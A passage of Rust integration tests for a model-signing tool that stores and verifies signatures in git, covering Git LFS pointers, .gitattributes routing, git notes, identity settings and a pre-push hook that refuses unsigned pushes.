    run_ok(s.msign(&dev).args(["hook", "install", "--force"]));
    s.git_ok(
        &dev,
        &["config", "msign.publicKey", s.public.to_str().unwrap()],
    );
    let out = run_fails(
        &mut s.git(
            &dev,
            &["push", "origin", &format!("{crafted}:refs/heads/main")],
        ),
        1,
    );
    assert!(
        stderr(&out).contains("refusing to push"),
        "{}",
        stderr(&out)
    );
    refused(&out);
    let remote_main = s.git_ok(&s.root.join("origin.git"), &["rev-parse", "main"]);
    assert_ne!(remote_main.trim(), crafted);
    run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

impl Sandbox {
    /// The Git LFS pointer git-lfs writes for `content`, and the content's sha256.
    fn lfs_pointer(&self, content: &[u8]) -> (String, String) {
        let file = self.p("pointer-source");
        std::fs::write(&file, content).unwrap();
        let arg = format!("--file={}", file.display());
        let pointer = self.git_ok(&self.root, &["lfs", "pointer", &arg]);
        assert!(pointer.starts_with("version https://git-lfs"), "{pointer}");
        (pointer, sha256_hex(content))
    }
}

/// A regular blob that has the form of an LFS pointer, with no .gitattributes rule: a
/// checkout holds the pointer text, so the revision is signed and verified as that text,
/// and a signature of the real weights does not verify against it.
#[test]
fn pointer_text_without_an_lfs_rule_is_hashed_as_its_bytes() {
    let s = Sandbox::new();
    let weights: Vec<u8> = (0..50_000u32).map(|i| (i * 13 % 251) as u8).collect();
    let (pointer, weights_sha) = s.lfs_pointer(&weights);

    // The real model, signed.
    let model = s.p("model");
    std::fs::create_dir_all(&model).unwrap();
    std::fs::write(model.join("weights.bin"), &weights).unwrap();
    std::fs::write(model.join("config.json"), b"{}\n").unwrap();
    let sig = s.p("model.sig");
    run_ok(
        s.msign(&s.root)
            .args(["sign", "key", "model", "--private-key"])
            .arg(&s.key)
            .arg("--signature")
            .arg(&sig),
    );

    // A repository holding the pointer text as an ordinary file.
    let repo = s.p("plain");
    std::fs::create_dir_all(&repo).unwrap();
    s.git_ok(&repo, &["init", "-q"]);
    std::fs::write(repo.join("weights.bin"), &pointer).unwrap();
    std::fs::write(repo.join("config.json"), b"{}\n").unwrap();
    s.git_ok(&repo, &["add", "."]);
    s.git_ok(&repo, &["commit", "-q", "-m", "pointer text, no LFS rule"]);
    assert_eq!(
        s.git_ok(
            &repo,
            &["check-attr", "--source=HEAD", "filter", "--", "weights.bin"]
        ),
        "weights.bin: filter: unspecified\n"
    );
    let out = run_fails(
        s.msign(&repo)
            .args(["verify", "key", "--git-rev", "HEAD", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
        1,
    );
    assert!(stderr(&out).contains("weights.bin"), "{}", stderr(&out));
    run_fails(
        s.gms(&repo)
            .args(["verify", "key", "HEAD", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
        1,
    );

    // The revision's manifest is the checkout's: the pointer text's own digest.
    let out = run_ok(
        s.msign(&repo)
            .args(["--json", "digest", "--git-rev", "HEAD"]),
    );
    assert!(stderr(&out).contains("filter=lfs"), "{}", stderr(&out));
    let from_git = digests_by_name(&out.stdout);
    assert_eq!(from_git["weights.bin"], sha256_hex(pointer.as_bytes()));
    assert_ne!(from_git["weights.bin"], weights_sha);
    let checkout = s.clone_from("plain", "plain-checkout", false);
    assert_eq!(
        std::fs::read_to_string(checkout.join("weights.bin")).unwrap(),
        pointer
    );
    let out = run_ok(
        s.msign(&s.root)
            .args(["--json", "digest", "plain-checkout"]),
    );
    let from_checkout = digests_by_name(&out.stdout);
    assert_eq!(from_git, from_checkout);
    // The checkout does not verify as the weights either.
    run_fails(
        s.msign(&s.root)
            .args(["verify", "key", "plain-checkout", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig),
        1,
    );
}

/// .gitattributes at several levels, with negations: a pointer is LFS content exactly where
/// `git check-attr` says `filter: lfs`, and the revision's manifest equals that of a real
/// checkout (git-lfs smudging the routed files), which the reference verifies.
#[test]
fn gitattributes_at_every_level_decide_what_is_lfs_content_as_git_does() {
    let s = Sandbox::new();
    let weights: Vec<u8> = (0..40_000u32).map(|i| (i * 31 % 253) as u8).collect();
    let (pointer, weights_sha) = s.lfs_pointer(&weights);
    let work = s.p("mixed");
    let files: &[(&str, &[u8])] = &[
        (
            ".gitattributes",
            b"*.bin filter=lfs diff=lfs merge=lfs -text\nraw/*.bin !filter\n[attr]big filter=lfs -text\n*.pt big\n",
        ),
        // `lfs/*.bin` is anchored here, and `*` stops at `/`: not `lfs/more/m.bin`.
        ("sub/.gitattributes", b"*.bin -filter\nlfs/*.bin filter=lfs\n"),
        ("sub/lfs/more/.gitattributes", b"# nothing about filter\n*.bin -text\n"),
        ("sub/other/.gitattributes", b"*.bin filter=other\n"),
        // Real content on a routed path: git-lfs stores the object.
        ("a.bin", &weights),
    ];
    let pointer_paths = [
        "b.bin",
        "deep/er/c.bin",
        "raw/r.bin",
        "sub/s.bin",
        "sub/lfs/l.bin",
        "sub/lfs/more/m.bin",
        "sub/other/o.bin",
        "w.pt",
        "notes.txt",
    ];
    for (name, content) in files {
        let p = work.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }
    for name in pointer_paths {
        let p = work.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, &pointer).unwrap();
    }
    s.git_ok(&s.root, &["init", "-q", "--bare", "mixed.git"]);
    s.git_ok(&work, &["init", "-q"]);
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "mixed"]);
    s.git_ok(&work, &["remote", "add", "origin", "../mixed.git"]);
    s.git_ok(&work, &["push", "-q", "origin", "main"]);

    // git's own verdict, path by path.
    let mut routed = Vec::new();
    for name in pointer_paths.iter().chain(["a.bin"].iter()) {
        let attr = s.git_ok(
            &work,
            &["check-attr", "--source=HEAD", "filter", "--", name],
        );
        if attr.trim_end().ends_with(": filter: lfs") {
            routed.push(*name);
        }
    }
    assert_eq!(
        routed,
        ["b.bin", "deep/er/c.bin", "sub/lfs/l.bin", "w.pt", "a.bin"]
    );
    let out = run_ok(
        s.msign(&work)
            .args(["--json", "digest", "--git-rev", "HEAD"]),
    );
    let from_git = digests_by_name(&out.stdout);
    for name in pointer_paths.iter().chain(["a.bin"].iter()) {
        let want = if routed.contains(name) {
            weights_sha.clone()
        } else {
            sha256_hex(pointer.as_bytes())
        };
        assert_eq!(from_git[*name], want, "{name}");
    }

    // A checkout with git-lfs smudging holds exactly that.
    let full = s.clone_from("mixed.git", "mixed-checkout", false);
    assert_eq!(std::fs::read(full.join("sub/lfs/l.bin")).unwrap(), weights);
    assert_eq!(
        std::fs::read_to_string(full.join("sub/s.bin")).unwrap(),
        pointer
    );
    let out = run_ok(
        s.msign(&s.root)
            .args(["--json", "digest", "mixed-checkout"]),
    );
    let from_checkout = digests_by_name(&out.stdout);
    assert_eq!(from_git, from_checkout);

    // Signed from the revision (pointers only, no LFS object needed), verified by the
    // reference on the checkout.
    let ptr = s.clone_from("mixed.git", "mixed-pointers", true);
    let sig = s.p("mixed.sig");
    run_ok(
        s.msign(&ptr)
            .args(["sign", "key", "--git-rev", "HEAD", "--private-key"])
            .arg(&s.key)
            .arg("--signature")
            .arg(&sig),
    );
    assert_eq!(lfs_object_count(&ptr), 0);
    run_ok(&mut s.reference_verify(&full, &sig));

    // A followed link takes its target's content, filtered by the target's attributes, not
    // by its own: `sub/lfs/s-link.bin` matches `lfs/*.bin`, its target `sub/s.bin` does not.
    std::os::unix::fs::symlink("../s.bin", work.join("sub/lfs/s-link.bin")).unwrap();
    std::os::unix::fs::symlink("sub/lfs/l.bin", work.join("l-link.bin")).unwrap();
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "links"]);
    s.git_ok(&work, &["push", "-q", "origin", "main"]);
    let linked = s.clone_from("mixed.git", "mixed-links", false);
    let out =
        run_ok(
            s.msign(&work)
                .args(["--json", "digest", "--allow-symlinks", "--git-rev", "HEAD"]),
        );
    let from_git = digests_by_name(&out.stdout);
    assert_eq!(
        from_git["sub/lfs/s-link.bin"],
        sha256_hex(pointer.as_bytes())
    );
    assert_eq!(from_git["l-link.bin"], weights_sha);
    let out = run_ok(
        s.msign(&s.root)
            .args(["--json", "digest", "--allow-symlinks"])
            .arg(&linked),
    );
    assert_eq!(from_git, digests_by_name(&out.stdout));
}

/// With no identity in any git configuration, `--store notes|commit` takes it from
/// GIT_AUTHOR_*/GIT_COMMITTER_* as git does (CI machines often set only those).
#[test]
fn git_identity_comes_from_the_environment_as_git_takes_it() {
    let s = Sandbox::new();
    let work = s.model_repo();
    s.git_ok(&s.root, &["config", "--global", "--unset", "user.name"]);
    s.git_ok(&s.root, &["config", "--global", "--unset", "user.email"]);
    let no_identity = |mut c: Command| -> Command {
        for v in ["NAME", "EMAIL", "DATE"] {
            c.env_remove(format!("GIT_AUTHOR_{v}"))
                .env_remove(format!("GIT_COMMITTER_{v}"));
        }
        c.env_remove("EMAIL");
        c
    };
    let from_env = |c: Command| -> Command {
        let mut c = no_identity(c);
        c.env("GIT_AUTHOR_NAME", "CI Author")
            .env("GIT_AUTHOR_EMAIL", "author@ci.example")
            .env("GIT_COMMITTER_NAME", "CI Bot")
            .env("GIT_COMMITTER_EMAIL", "bot@ci.example")
            .env("GIT_COMMITTER_DATE", "1700000000 +0100");
        c
    };
    let sign = |store: &str| {
        let mut c = s.gms(&work);
        c.args(["sign", "key", "--store", store, "--private-key"])
            .arg(&s.key);
        c
    };

    let format = "%an <%ae>|%cn <%ce>|%cI";
    let who = "CI Author <author@ci.example>|CI Bot <bot@ci.example>|2023-11-14T23:13:20+01:00";
    run_ok(&mut from_env(sign("notes")));
    let notes_log = s.git_ok(
        &work,
        &[
            "log",
            "-1",
            &format!("--format={format}"),
            "refs/notes/model-signing",
        ],
    );
    assert_eq!(notes_log.trim(), who);
    run_ok(&mut from_env(sign("commit")));
    let log = s.git_ok(&work, &["log", "-1", &format!("--format={format}")]);
    assert_eq!(log.trim(), who);
    run_ok(
        s.gms(&work)
            .args(["verify", "key", "--public-key"])
            .arg(&s.public),
    );

    // The configuration still counts, below the environment: author.* over user.*.
    s.git_ok(&work, &["config", "user.name", "Config User"]);
    s.git_ok(&work, &["config", "user.email", "user@config.example"]);
    s.git_ok(&work, &["config", "author.name", "Config Author"]);
    let head = s.git_ok(&work, &["rev-parse", "HEAD"]).trim().to_string();
    let mut c = no_identity(sign("notes"));
    c.env("GIT_COMMITTER_NAME", "Env Committer");
    run_ok(&mut c);
    let notes_log = s.git_ok(
        &work,
        &[
            "log",
            "-1",
            "--format=%an <%ae>|%cn <%ce>",
            "refs/notes/model-signing",
        ],
    );
    assert_eq!(
        notes_log.trim(),
        "Config Author <user@config.example>|Env Committer <user@config.example>"
    );
    let notes = s.git_ok(&work, &["notes", "--ref", "model-signing", "list"]);
    assert!(notes.contains(&head), "{notes}");

    // No identity anywhere (configuration removed again): the error says how to give one.
    for key in ["user.name", "user.email", "author.name"] {
        s.git_ok(&work, &["config", "--unset", key]);
    }
    let out = run_fails(&mut no_identity(sign("notes")), 2);
    let err = stderr(&out);
    assert!(
        err.contains("git needs an identity") && err.contains("GIT_COMMITTER_NAME"),
        "{err}"
    );
}

// ---- The git workflow a new user walks through (issue 14, "Git workflow") ----

/// A second key pair in its own folder below the sandbox.
fn other_keypair(s: &Sandbox, name: &str) -> (PathBuf, PathBuf) {
    let dir = s.p(name);
    std::fs::create_dir_all(&dir).unwrap();
    ec_keypair(&dir, "prime256v1")
}

fn json_of(out: &Output) -> serde_json::Value {
    serde_json::from_str(&stdout(out)).unwrap_or_else(|e| panic!("{e}: {}", stdout(out)))
}

#[test]
fn a_stale_model_sig_in_the_tree_does_not_hide_a_valid_note() {
    let s = Sandbox::new();
    let work = s.model_repo();
    // One `--store commit` signature; later commits carry its model.sig along.
    run_ok(
        s.gms(&work)
            .args(["sign", "--store", "commit", "--private-key"])
            .arg(&s.key),
    );
    std::fs::write(work.join("weights/model-3.bin"), vec![3u8; 3000]).unwrap();
    s.git_ok(&work, &["add", "."]);
    s.git_ok(&work, &["commit", "-q", "-m", "third shard"]);
    run_ok(
        s.gms(&work)
            .args(["sign", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    let out = run_ok(
        s.gms(&work)
            .args(["--json", "verify", "--public-key"])
            .arg(&s.public),
    );
    let v = json_of(&out);
    assert_eq!(v["signature_kind"], "note", "{v}");
    let rejected = v["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 1, "{v}");
    assert_eq!(rejected[0]["signature_kind"], "tree");
    assert!(
        rejected[0]["reason"]
            .as_str()
            .unwrap()
            .contains("weights/model-3.bin"),
        "{v}"
    );
    // In text, which one verified and why the other did not.
    let out = run_ok(s.gms(&work).args(["verify", "--public-key"]).arg(&s.public));
    assert!(stdout(&out).contains("git note"), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("also found file HEAD:model.sig in the revision's tree")
            && stderr(&out).contains("does not verify"),
        "{}",
        stderr(&out)
    );

    // The hook does the same: the push passes on the note.
    run_ok(s.msign(&work).args(["hook", "install"]));
    s.git_ok(
        &work,
        &["config", "msign.publicKey", s.public.to_str().unwrap()],
    );
    let out = run_ok(&mut s.git(&work, &["push", "origin", "main"]));
    assert!(stderr(&out).contains("git note"), "{}", stderr(&out));

    // With no signature verifying, each one found is named with its reason.
    let (_, other_public) = other_keypair(&s, "other");
    let out = run_fails(
        s.gms(&work)
            .args(["verify", "--public-key"])
            .arg(&other_public),
        1,
    );
    let err = stderr(&out);
    assert!(
        err.contains("none of the 2 signatures") && err.contains("git note"),
        "{err}"
    );
}

#[test]
fn the_default_file_store_writes_where_verify_looks() {
    let s = Sandbox::new();
    let work = s.model_repo();
    std::fs::create_dir_all(work.join("weights/sub")).unwrap();
    let out = run_ok(
        s.gms(&work.join("weights/sub"))
            .args(["sign", "key", "--path", "weights", "--private-key"])
            .arg(&s.key),
    );
    // Into the model folder of the work tree, wherever it was run from, and said so.
    let sig = work.join("weights/model.sig");
    assert!(sig.is_file(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains(&sig.display().to_string())
            && stdout(&out).contains("in the work tree, not in git"),
        "{}",
        stdout(&out)
    );
    let out = run_ok(
        s.gms(&work)
            .args([
                "--json",
                "verify",
                "key",
                "--path",
                "weights",
                "--public-key",
            ])
            .arg(&s.public),
    );
    assert_eq!(json_of(&out)["signature_kind"], "work-tree");
    // The reference finds it in the checkout the same way.
    run_ok(&mut s.reference_verify(&work.join("weights"), &sig));
    // The hook does not count it: it is not pushed.
    run_ok(s.msign(&work).args(["hook", "install"]));
    s.git_ok(
        &work,
        &["config", "msign.publicKey", s.public.to_str().unwrap()],
    );
    s.git_ok(&work, &["config", "msign.path", "weights"]);
    std::fs::write(work.join("weights/model-3.bin"), vec![3u8; 3000]).unwrap();
    s.git_ok(&work, &["add", "weights/model-3.bin"]);
    s.git_ok(&work, &["commit", "-q", "-m", "third shard"]);
    run_ok(
        s.gms(&work)
            .args(["sign", "key", "--path", "weights", "--private-key"])
            .arg(&s.key),
    );
    let out = run_fails(&mut s.git(&work, &["push", "origin", "main"]), 1);
    assert!(
        stderr(&out).contains("refusing to push"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_second_signer_adds_a_note_line_instead_of_replacing_the_first() {
    let s = Sandbox::new();
    let work = s.model_repo();
    let (b_key, b_public) = other_keypair(&s, "bob");
    let sign = |key: &Path| {
        run_ok(
            s.gms(&work)
                .args(["sign", "--store", "notes", "--private-key"])
                .arg(key),
        )
    };
    sign(&s.key);
    let out = sign(&b_key);
    assert!(stdout(&out).contains("next to 1 other"), "{}", stdout(&out));
    let head = s.git_ok(&work, &["rev-parse", "HEAD"]).trim().to_string();
    let note = s.git_ok(&work, &["notes", "--ref", "model-signing", "show", &head]);
    assert_eq!(note.lines().count(), 2, "{note}");
    for public in [&s.public, &b_public] {
        run_ok(s.gms(&work).args(["verify", "--public-key"]).arg(public));
    }
    // Signing again with a key replaces that signer's own line only.
    sign(&s.key);
    let note = s.git_ok(&work, &["notes", "--ref", "model-signing", "show", &head]);
    assert_eq!(note.lines().count(), 2, "{note}");
    run_ok(s.gms(&work).args(["verify", "--public-key"]).arg(&b_public));
    // The notes commit says what it records.
    let subject = s.git_ok(
        &work,
        &["log", "-1", "--format=%s", "refs/notes/model-signing"],
    );
    assert!(
        subject.starts_with(&format!("msign: signature of {head} by key ")),
        "{subject}"
    );
    assert!(!subject.contains("libgit2"), "{subject}");
    // git itself still reads the notes ref as notes.
    let listed = s.git_ok(&work, &["notes", "--ref", "model-signing", "list"]);
    assert!(listed.contains(&head), "{listed}");
}

#[test]
fn from_a_subfolder_both_front_ends_sign_the_whole_repository() {
    let s = Sandbox::new();
    let work = s.model_repo();
    let sub = work.join("weights");
    let top = run_ok(
        s.msign(&work)
            .args(["--json", "digest", "--git-rev", "HEAD"]),
    );
    let from_sub = run_ok(
        s.msign(&sub)
            .args(["--json", "digest", "--git-rev", "HEAD"]),
    );
    assert_eq!(resources(&stdout(&from_sub)), resources(&stdout(&top)));
    let out = run_ok(
        s.gms(&sub)
            .args(["--json", "sign", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    let signed = json_of(&out);
    assert_eq!(signed["path"], "", "{signed}");
    let top_files = json_of(&top)["resources"].as_array().unwrap().len();
    assert_eq!(signed["files"], top_files, "{signed}");
    // A folder is named explicitly: `:/SUBDIR` from the top, or a path on disk.
    let named = run_ok(
        s.msign(&s.root)
            .args(["--json", "digest", "--git-rev", "HEAD", "-C"])
            .arg(&sub)
            .arg(":/weights"),
    );
    let dot = run_ok(
        s.msign(&sub)
            .args(["--json", "digest", "--git-rev", "HEAD", "."]),
    );
    assert_eq!(resources(&stdout(&named)), resources(&stdout(&dot)));
    assert_ne!(resources(&stdout(&named)), resources(&stdout(&top)));
    // The rule is stated in both helps.
    let h = run_ok(s.msign(&work).args(["sign", "key", "--help"]));
    assert!(
        stdout(&h).contains("the whole repository"),
        "{}",
        stdout(&h)
    );
    let h = run_ok(s.gms(&work).args(["sign", "key", "--help"]));
    assert!(
        stdout(&h).contains("the whole repository"),
        "{}",
        stdout(&h)
    );
}

#[test]
fn a_fresh_clone_says_how_to_fetch_the_notes() {
    let s = Sandbox::new();
    let work = s.model_repo();
    run_ok(
        s.gms(&work)
            .args(["sign", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    s.git_ok(&work, &["push", "-q", "origin", "refs/notes/model-signing"]);
    let fresh = s.clone("fresh", true);
    // No signature found: exit 3, as for a missing signature file; the fetch command.
    let out = run_fails(
        s.gms(&fresh)
            .args(["verify", "--public-key"])
            .arg(&s.public),
        3,
    );
    let err = stderr(&out);
    assert!(err.contains("do not fetch notes by default"), "{err}");
    assert!(
        err.contains("git fetch origin refs/notes/model-signing:refs/notes/model-signing"),
        "{err}"
    );
    let out = run_fails(
        s.gms(&fresh)
            .args(["--json", "verify", "--public-key"])
            .arg(&s.public),
        3,
    );
    assert_eq!(json_of(&out)["status"], "error");
    // `hook install --fetch-notes` makes every fetch bring them.
    let out = run_ok(s.msign(&fresh).args(["hook", "install", "--fetch-notes"]));
    assert!(stdout(&out).contains("origin"), "{}", stdout(&out));
    let specs = s.git_ok(&fresh, &["config", "--get-all", "remote.origin.fetch"]);
    assert!(
        specs.contains("refs/notes/model-signing:refs/notes/model-signing"),
        "{specs}"
    );
    run_ok(s.msign(&fresh).args(["hook", "install", "--fetch-notes"]));
    let again = s.git_ok(&fresh, &["config", "--get-all", "remote.origin.fetch"]);
    assert_eq!(again, specs, "added once");
    s.git_ok(&fresh, &["fetch", "-q"]);
    run_ok(
        s.gms(&fresh)
            .args(["verify", "--public-key"])
            .arg(&s.public),
    );
}

#[test]
fn folder_verification_of_a_skip_smudge_checkout_names_the_lfs_pointers() {
    let s = Sandbox::new();
    s.model_repo();
    s.clone("full", false);
    let sig = s.p("full.sig");
    run_ok(
        s.msign(&s.root)
            .args(["sign", "key", "full", "--private-key"])
            .arg(&s.key)
            .arg("--signature")
            .arg(&sig),
    );
    let ptr = s.clone("ptr", true);
    let verify = |json: bool| {
        let mut c = s.msign(&s.root);
        if json {
            c.arg("--json");
        }
        c.args(["verify", "key", "ptr", "--public-key"])
            .arg(&s.public)
            .arg("--signature")
            .arg(&sig);
        c
    };
    let out = run_fails(&mut verify(false), 1);
    let err = stderr(&out);
    assert!(err.contains("Git LFS pointer"), "{err}");
    assert!(err.contains("git lfs pull"), "{err}");
    assert!(!err.contains("--ignore-paths"), "{err}");
    let v = json_of(&run_fails(&mut verify(true), 1));
    let mut pointers: Vec<&str> = v["differences"]["lfs_pointers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    pointers.sort();
    assert_eq!(
        pointers,
        ["weights/model-1.bin", "weights/model-2.bin"],
        "{v}"
    );
    // After `git lfs pull` it verifies.
    s.git_ok(&ptr, &["lfs", "pull"]);
    run_ok(&mut verify(false));
}

#[test]
fn hook_install_names_missing_configuration_and_coexists_with_git_lfs() {
    let s = Sandbox::new();
    s.model_repo();
    let dev = s.clone("dev", false);
    let out = run_ok(s.msign(&dev).args(["hook", "install"]));
    assert!(
        stderr(&out).contains("warning:") && stderr(&out).contains("msign.publicKey"),
        "{}",
        stderr(&out)
    );
    let v = json_of(&run_ok(s.msign(&dev).args(["--json", "hook", "install"])));
    assert_eq!(v["status"], "installed");
    assert!(
        v["warnings"][0]
            .as_str()
            .unwrap()
            .contains("msign.publicKey"),
        "{v}"
    );
    // A key that is not there is named too.
    s.git_ok(&dev, &["config", "msign.publicKey", "missing.pub"]);
    let out = run_ok(s.msign(&dev).args(["hook", "install"]));
    assert!(stderr(&out).contains("missing.pub"), "{}", stderr(&out));
    // The hook reports the configuration, not unsigned commits.
    std::fs::write(dev.join("weights/model-3.bin"), vec![3u8; 3000]).unwrap();
    s.git_ok(&dev, &["add", "."]);
    s.git_ok(&dev, &["commit", "-q", "-m", "third shard"]);
    // (git push exits 1 whatever the hook's status.)
    let out = run_fails(&mut s.git(&dev, &["push", "origin", "main"]), 1);
    let err = stderr(&out);
    assert!(err.contains("not configured to verify"), "{err}");
    assert!(err.contains("missing.pub"), "{err}");
    assert!(!err.contains("refusing to push"), "{err}");

    // Git LFS: its install and update stop at msign's hook, as the install note says.
    let out = run_ok(s.msign(&dev).args(["hook", "install"]));
    assert!(
        stderr(&out).contains("git lfs update --force"),
        "{}",
        stderr(&out)
    );
    let lfs = run_fails(&mut s.git(&dev, &["lfs", "install"]), 2);
    assert!(
        stderr(&lfs).contains("Hook already exists: pre-push"),
        "{}",
        stderr(&lfs)
    );
    // The documented way to have both: LFS's hooks, then msign's pre-push again.
    run_ok(&mut s.git(&dev, &["lfs", "update", "--force"]));
    let post_checkout = dev.join(".git/hooks/post-checkout");
    assert!(std::fs::read_to_string(&post_checkout)
        .unwrap()
        .contains("git lfs post-checkout"));
    run_ok(s.msign(&dev).args(["hook", "install"]));
    assert_eq!(
        std::fs::read_to_string(dev.join(".git/hooks/pre-push")).unwrap(),
        std::fs::read_to_string(repo().join("hooks/pre-push")).unwrap()
    );
    s.git_ok(
        &dev,
        &["config", "msign.publicKey", s.public.to_str().unwrap()],
    );
    run_ok(
        s.gms(&dev)
            .args(["sign", "--store", "notes", "--private-key"])
            .arg(&s.key),
    );
    run_ok(&mut s.git(&dev, &["push", "origin", "main"]));
}
